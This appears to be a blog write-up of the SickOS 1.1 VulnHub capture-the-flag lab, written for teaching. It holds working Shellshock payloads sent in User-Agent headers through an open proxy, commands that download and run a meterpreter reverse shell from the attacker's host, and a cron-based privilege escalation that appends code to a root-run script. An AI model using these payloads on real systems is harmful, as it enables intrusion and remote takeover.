Tuesday, December 29, 2015

SickOS 1.1 writeup

Quick writeup about SickOS 1.1 from vulnhub.

As usual, nmap is the first runner:
$ nmap -p- -A -v -T5 $IP

apart port 22/tcp, it's interesting that it runs an open proxy on port 3128.

as a test I configured my browser to use this proxy and browsed to see a funny welcome page:

time to wake up nikto, configured to use the proxy of course:
$ nikto -host -useproxy
our good fellow found a possible way in:nikto is right:
$ curl -H "User-Agent: () { :; }; echo; /bin/uname -a" --proxy http://$IP:3128 with:

i expect to be a non-privileged user, so to have a more confident environment i created a meterpreter revshell with msfvenom, downloaded and executed it:

$ CMD="/usr/bin/wget -O /tmp/revshell http://$ME/revshell"
$ curl -H "User-Agent: () { :; }; echo; $CMD" --proxy http://$IP:3128
$ CMD="/bin/chmod 755 /tmp/revshell"
$ curl -H "User-Agent: () { :; }; echo; $CMD" --proxy http://$IP:3128
$ CMD="/tmp/revshell"
$ curl -H "User-Agent: () { :; }; echo; $CMD" --proxy http://$IP:3128
msfconsole shows up a new session as uid 33 (www-data): time to enumerate the system and get root.

/var/www lists a CMS, already seen with nikto because of it's in robots.txt Disallow list, but a .py get my attention first. it's world-writable and world-executable and it says:
print "I Try to connect things very frequently\n"
print "You may want to try my services"

in the hope that "I" means "root", i tried a simple:

$ echo "import os" >> connect.py
$ echo "os.system('touch /tmp/foo')">> connect.py
and waited a couple of seconds before to ls -al /tmp:

so connect.py is executed by root every a while, good find.

to be faster to execute code i added another line to connect.py:
$ echo "os.system('/tmp/run')" >> /var/www/connect.py
then i created a new meterpreter reverseshell, and downloaded+executed it:

$ echo "#!/bin/bash" > /tmp/run
$ echo "wget -O /tmp/revshell4445" >> /tmp/run
$ echo "chmod 755 /tmp/revshell4445" >> /tmp/run
$ echo "/tmp/revshell4445 &" >> /tmp/run
$ echo "rm -f /tmp/run" >> /tmp/run
$ chmod 755 /tmp/run
after a minute i see a new session on msfconsole:

and the flag is:thanks to D4rk for letting me play withhis vulnerable box.

Nocomments:

Post a Comment